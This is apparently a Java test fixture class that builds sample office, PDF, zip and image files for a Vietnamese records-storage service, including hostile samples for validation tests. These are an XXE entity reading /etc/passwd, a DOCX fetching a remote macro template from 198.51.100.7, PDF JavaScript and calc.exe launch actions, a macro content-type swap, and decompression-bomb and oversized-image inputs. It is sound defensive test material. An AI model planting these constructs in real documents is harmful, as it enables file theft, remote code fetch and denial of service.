package vn.caicach.storage.internal;

import java.awt.image.BufferedImage;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.GeneralSecurityException;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.zip.CRC32;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import java.util.zip.ZipOutputStream;
import javax.imageio.ImageIO;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDDocumentNameDictionary;
import org.apache.pdfbox.pdmodel.PDEmbeddedFilesNameTreeNode;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.PDPageContentStream;
import org.apache.pdfbox.pdmodel.PDResources;
import org.apache.pdfbox.pdmodel.common.PDRectangle;
import org.apache.pdfbox.pdmodel.common.filespecification.PDComplexFileSpecification;
import org.apache.pdfbox.pdmodel.common.filespecification.PDEmbeddedFile;
import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;
import org.apache.pdfbox.pdmodel.font.PDFont;
import org.apache.pdfbox.pdmodel.font.PDType0Font;
import org.apache.pdfbox.pdmodel.font.PDType1Font;
import org.apache.pdfbox.pdmodel.font.Standard14Fonts;
import org.apache.pdfbox.pdmodel.graphics.image.PDImageXObject;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionLaunch;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationLink;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationRubberStamp;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAppearanceDictionary;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAppearanceStream;
import org.apache.poi.hssf.usermodel.HSSFWorkbook;
import org.apache.poi.openxml4j.exceptions.InvalidFormatException;
import org.apache.poi.openxml4j.opc.OPCPackage;
import org.apache.poi.poifs.crypt.EncryptionInfo;
import org.apache.poi.poifs.crypt.EncryptionMode;
import org.apache.poi.poifs.crypt.Encryptor;
import org.apache.poi.poifs.filesystem.POIFSFileSystem;
import org.apache.poi.wp.usermodel.HeaderFooterType;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.apache.poi.xwpf.usermodel.XWPFDocument;
import org.apache.poi.xwpf.usermodel.XWPFRun;
import org.apache.poi.xwpf.usermodel.XWPFTable;

/// Files as people and attackers send them, made on the spot.
final class SampleFiles {

  static final List<String> REPORT =
      List.of(
          "ỦY BAN NHÂN DÂN XÃ NINH GIANG",
          "Số: 15/BC-UBND",
          "BÁO CÁO",
          "Kết quả công tác cải cách hành chính quý III năm 2026",
          "Xã đã bảo đảm an toàn, bảo mật thông tin; hồ sơ được xử lý đúng hạn.");

  private SampleFiles() {}

  // --- PDF ---

  static byte[] pdf(List<String> lines) throws IOException {
    return pdf(document -> page(document, lines));
  }

  interface PdfContent {
    void write(PDDocument document) throws IOException;
  }

  static byte[] pdf(PdfContent content) throws IOException {
    try (var document = new PDDocument();
        var out = new ByteArrayOutputStream()) {
      content.write(document);
      document.save(out);
      return out.toByteArray();
    }
  }

  static PDPage page(PDDocument document, List<String> lines) throws IOException {
    var page = new PDPage(PDRectangle.A4);
    document.addPage(page);
    PDFont font = font(document);
    try (var content = new PDPageContentStream(document, page)) {
      float y = 780;
      for (String line : lines) {
        float x = 60;
        for (String column : line.split("\t")) {
          content.beginText();
          content.setFont(font, 12);
          content.newLineAtOffset(x, y);
          content.showText(column);
          content.endText();
          x += 260;
        }
        y -= 20;
      }
    }
    return page;
  }

  /// A font with Vietnamese letters, as Debian installs it; else Latin letters must do.
  static boolean hasVietnameseFont() {
    return Files.exists(Path.of("/usr/share/fonts/truetype/dejavu/DejaVuSans.ttf"));
  }

  private static PDFont font(PDDocument document) throws IOException {
    return hasVietnameseFont()
        ? PDType0Font.load(
            document, Path.of("/usr/share/fonts/truetype/dejavu/DejaVuSans.ttf").toFile())
        : new PDType1Font(Standard14Fonts.FontName.HELVETICA);
  }

  static byte[] pdfWithStampAnnotation(String stamp) throws IOException {
    return pdf(document -> {
      PDPage page = page(document, List.of("UBND XA NINH GIANG", "BAO CAO"));
      var annotation = new PDAnnotationRubberStamp();
      var box = new PDRectangle(100, 700, 120, 30);
      annotation.setRectangle(box);
      var appearance = new PDAppearanceStream(document);
      appearance.setBBox(new PDRectangle(120, 30));
      appearance.setResources(new PDResources());
      try (var content = new PDPageContentStream(document, appearance)) {
        content.beginText();
        content.setFont(new PDType1Font(Standard14Fonts.FontName.HELVETICA_BOLD), 16);
        content.newLineAtOffset(5, 8);
        content.showText(stamp);
        content.endText();
      }
      var appearances = new PDAppearanceDictionary();
      appearances.setNormalAppearance(appearance);
      annotation.setAppearance(appearances);
      page.getAnnotations().add(annotation);
    });
  }

  /// Pages as a scanner makes them: pictures alone.
  static byte[] scannedPdf(int pages) throws IOException {
    return pdf(document -> {
      var picture = PDImageXObject.createFromByteArray(document, picture("jpg", 200, 280), "trang");
      for (int i = 0; i < pages; i++) {
        var page = new PDPage(PDRectangle.A4);
        document.addPage(page);
        try (var content = new PDPageContentStream(document, page)) {
          content.drawImage(picture, 0, 0, 595, 842);
        }
      }
    });
  }

  static byte[] pdfWithPassword(String toOpen) throws IOException {
    return pdf(document -> {
      page(document, List.of("UBND XA NINH GIANG"));
      var policy = new StandardProtectionPolicy("owner", toOpen, new AccessPermission());
      policy.setEncryptionKeyLength(128);
      document.protect(policy);
    });
  }

  static byte[] pdfWithJavaScript() throws IOException {
    return pdf(document -> {
      page(document, List.of("Xem trang sau"));
      document.getDocumentCatalog().setOpenAction(new PDActionJavaScript("app.alert('x')"));
    });
  }

  static byte[] pdfThatLaunches() throws IOException {
    return pdf(document -> {
      PDPage page = page(document, List.of("Bấm vào đây".replaceAll("[^\\x00-\\x7F]", "a")));
      var launch = new PDActionLaunch();
      launch.setF("calc.exe");
      var link = new PDAnnotationLink();
      link.setRectangle(new PDRectangle(50, 700, 200, 30));
      link.setAction(launch);
      page.getAnnotations().add(link);
    });
  }

  static byte[] pdfWithAttachment(String name, byte[] bytes) throws IOException {
    return pdf(document -> {
      page(document, List.of("Co tep dinh kem"));
      var specification = new PDComplexFileSpecification();
      specification.setFile(name);
      specification.setEmbeddedFile(new PDEmbeddedFile(document, new ByteArrayInputStream(bytes)));
      var files = new PDEmbeddedFilesNameTreeNode();
      files.setNames(Map.of("1", specification));
      var names = new PDDocumentNameDictionary(document.getDocumentCatalog());
      names.setEmbeddedFiles(files);
      document.getDocumentCatalog().setNames(names);
    });
  }

  // --- Word, Excel ---

  static byte[] docx(List<String> paragraphs) throws IOException {
    return docx(document ->
        paragraphs.forEach(text -> document.createParagraph().createRun().setText(text)));
  }

  interface DocxContent {
    void write(XWPFDocument document) throws IOException;
  }

  static byte[] docx(DocxContent content) throws IOException {
    try (var document = new XWPFDocument();
        var out = new ByteArrayOutputStream()) {
      content.write(document);
      document.write(out);
      return out.toByteArray();
    }
  }

  static byte[] docxWithHeadTable(String stamp) throws IOException {
    return docx(document -> {
      XWPFTable table = document.createTable(1, 2);
      var left = table.getRow(0).getCell(0);
      left.setText("ỦY BAN NHÂN DÂN XÃ NINH GIANG");
      left.addParagraph().createRun().setText("Số: 15/BC-UBND");
      left.addParagraph().createRun().setText(stamp);
      table.getRow(0).getCell(1).setText("CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM");
      REPORT.forEach(text -> document.createParagraph().createRun().setText(text));
    });
  }

  /// The stamp in a second table of the head, typed small and formatted in capital letters.
  static byte[] docxWithCapitalsInASecondTable(String stamp) throws IOException {
    return docx(document -> {
      XWPFTable table = document.createTable(1, 2);
      table.getRow(0).getCell(0).setText("ỦY BAN NHÂN DÂN XÃ NINH GIANG");
      table.getRow(0).getCell(1).setText("CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM");
      document.createParagraph().createRun().setText("Số: 15/BC-UBND");
      XWPFRun run =
          document.createTable(1, 2).getRow(0).getCell(0).getParagraphs().getFirst().createRun();
      run.setText(stamp);
      run.setCapitalized(true);
      REPORT.forEach(text -> document.createParagraph().createRun().setText(text));
    });
  }

  static byte[] docxWithRegister(String cell) throws IOException {
    return docx(document -> {
      XWPFTable head = document.createTable(1, 2);
      head.getRow(0).getCell(0).setText("ỦY BAN NHÂN DÂN XÃ NINH GIANG");
      REPORT.forEach(text -> document.createParagraph().createRun().setText(text));
      XWPFTable table = document.createTable(2, 3);
      table.getRow(0).getCell(0).setText("Số, ký hiệu");
      table.getRow(0).getCell(1).setText("Độ mật");
      table.getRow(1).getCell(0).setText("01/CV");
      table.getRow(1).getCell(1).setText(cell);
    });
  }

  static byte[] docxWithPageHeader(String stamp) throws IOException {
    return docx(document -> {
      document.createHeader(HeaderFooterType.DEFAULT).createParagraph().createRun().setText(stamp);
      REPORT.forEach(text -> document.createParagraph().createRun().setText(text));
    });
  }

  static byte[] docxWithTextBox(String stamp) throws IOException {
    byte[] plain = docx(REPORT);
    return change(
        plain,
        "word/document.xml",
        xml ->
            xml.replace(
                "<w:body>",
                "<w:body><w:p><w:r><mc:AlternateContent"
                    + " xmlns:mc=\"http://schemas.openxmlformats.org/markup-compatibility/2006\"><mc:Choice Requires=\"wps\">"
                    + "<w:txbxContent><w:p><w:r><w:t>"
                    + stamp
                    + "</w:t></w:r></w:p></w:txbxContent></mc:Choice></mc:AlternateContent></w:r></w:p>"));
  }

  static byte[] docxWithEntity() throws IOException {
    return change(
        docx(REPORT),
        "word/document.xml",
        xml ->
            xml.replaceFirst(
                    "<\\?xml[^>]*\\?>",
                    "<!DOCTYPE w [<!ENTITY leak SYSTEM \"file:///etc/passwd\">]>")
                .replace("BÁO CÁO", "&leak;"));
  }

  static byte[] docxWithMacro() throws IOException {
    return change(
        docx(REPORT),
        "[Content_Types].xml",
        xml ->
            xml.replace(
                "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                "application/vnd.ms-word.document.macroEnabled.main+xml"));
  }

  static byte[] docxThatFetchesItsTemplate() throws IOException {
    byte[] plain = docx(document -> document.createParagraph().createRun().setText("Mẫu"));
    return change(
        plain,
        "word/_rels/document.xml.rels",
        xml ->
            xml.replace(
                "</Relationships>",
                "<Relationship Id=\"rIdX\" TargetMode=\"External\" Target=\"http://198.51.100.7/mau.dotm\" Type="
                    + "\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\"/>"
                    + "</Relationships>"));
  }

  static byte[] docxWithPassword() throws IOException {
    try (var container = new POIFSFileSystem();
        var out = new ByteArrayOutputStream()) {
      Encryptor encryptor = new EncryptionInfo(EncryptionMode.agile).getEncryptor();
      encryptor.confirmPassword("123456");
      try (OPCPackage document = OPCPackage.open(new ByteArrayInputStream(docx(REPORT)));
          OutputStream closed = encryptor.getDataStream(container)) {
        document.save(closed);
      }
      container.writeFilesystem(out);
      return out.toByteArray();
    } catch (GeneralSecurityException | InvalidFormatException e) {
      throw new IOException(e);
    }
  }

  static byte[] xlsx(List<List<String>> rows) throws IOException {
    try (var workbook = new XSSFWorkbook();
        var out = new ByteArrayOutputStream()) {
      var sheet = workbook.createSheet("Danh sách");
      for (int i = 0; i < rows.size(); i++) {
        var row = sheet.createRow(i);
        for (int j = 0; j < rows.get(i).size(); j++) {
          if (!rows.get(i).get(j).isEmpty()) {
            row.createCell(j).setCellValue(rows.get(i).get(j));
          }
        }
      }
      workbook.write(out);
      return out.toByteArray();
    }
  }

  static byte[] xls() throws IOException {
    try (var workbook = new HSSFWorkbook();
        var out = new ByteArrayOutputStream()) {
      workbook.createSheet("x").createRow(0).createCell(0).setCellValue("x");
      workbook.write(out);
      return out.toByteArray();
    }
  }

  static byte[] doc() throws IOException {
    try (var container = new POIFSFileSystem();
        var out = new ByteArrayOutputStream()) {
      container.createDocument(new ByteArrayInputStream(new byte[4096]), "WordDocument");
      container.writeFilesystem(out);
      return out.toByteArray();
    }
  }

  // --- zip ---

  static byte[] zip(Map<String, byte[]> entries) throws IOException {
    var out = new ByteArrayOutputStream();
    try (var zip = new ZipOutputStream(out)) {
      for (var entry : entries.entrySet()) {
        zip.putNextEntry(new ZipEntry(entry.getKey()));
        zip.write(entry.getValue());
        zip.closeEntry();
      }
    }
    return out.toByteArray();
  }

  static Map<String, byte[]> unzip(byte[] bytes) throws IOException {
    var entries = new LinkedHashMap<String, byte[]>();
    try (var zip = new ZipInputStream(new ByteArrayInputStream(bytes))) {
      for (ZipEntry entry = zip.getNextEntry(); entry != null; entry = zip.getNextEntry()) {
        entries.put(entry.getName(), zip.readAllBytes());
      }
    }
    return entries;
  }

  static byte[] with(byte[] container, String name, byte[] content) throws IOException {
    Map<String, byte[]> entries = unzip(container);
    entries.put(name, content);
    return zip(entries);
  }

  /// A DOCX with another office file set into it.
  static byte[] docxWith(String extension, byte[] embedded) throws IOException {
    byte[] declared =
        change(
            docx(REPORT),
            "[Content_Types].xml",
            xml ->
                xml.replace(
                    "</Types>",
                    "<Default Extension=\""
                        + extension
                        + "\" ContentType=\"application/octet-stream\"/></Types>"));
    return with(declared, "word/embeddings/embedded." + extension, embedded);
  }

  static byte[] change(
      byte[] container, String name, java.util.function.UnaryOperator<String> change)
      throws IOException {
    Map<String, byte[]> entries = unzip(container);
    byte[] before = entries.get(name);
    if (before == null) {
      throw new IOException(name + " is not in " + entries.keySet());
    }
    entries.put(
        name,
        change.apply(new String(before, StandardCharsets.UTF_8)).getBytes(StandardCharsets.UTF_8));
    return zip(entries);
  }

  /// A DOCX whose picture swells from a few kilobytes to many megabytes.
  static byte[] swelling(int megabytes) throws IOException {
    return with(docx(REPORT), "word/media/image1.emf", new byte[megabytes << 20]);
  }

  static byte[] manyEntries(int count) throws IOException {
    Map<String, byte[]> entries = unzip(docx(REPORT));
    for (int i = 0; i < count; i++) {
      entries.put("word/media/" + i, new byte[0]);
    }
    return zip(entries);
  }

  // --- pictures ---

  static byte[] picture(String format, int width, int height) throws IOException {
    var out = new ByteArrayOutputStream();
    ImageIO.write(new BufferedImage(width, height, BufferedImage.TYPE_INT_RGB), format, out);
    return out.toByteArray();
  }

  /// A small PNG whose header says it is huge.
  static byte[] hugePicture() throws IOException {
    byte[] png = picture("png", 8, 8);
    Arrays.fill(png, 16, 24, (byte) 0);
    png[18] = 0x7F;
    png[22] = 0x7F;
    var checksum = new CRC32();
    checksum.update(png, 12, 17);
    for (int i = 0; i < 4; i++) {
      png[29 + i] = (byte) (checksum.getValue() >>> (24 - 8 * i));
    }
    return png;
  }

  static byte[] cut(byte[] whole, double part) {
    return Arrays.copyOf(whole, (int) (whole.length * part));
  }

  static byte[] directive(String name) throws IOException {
    try (InputStream in =
        SampleFiles.class.getResourceAsStream("/storage/directives/" + name + ".txt")) {
      if (in == null) {
        throw new IOException(name);
      }
      return in.readAllBytes();
    }
  }
}
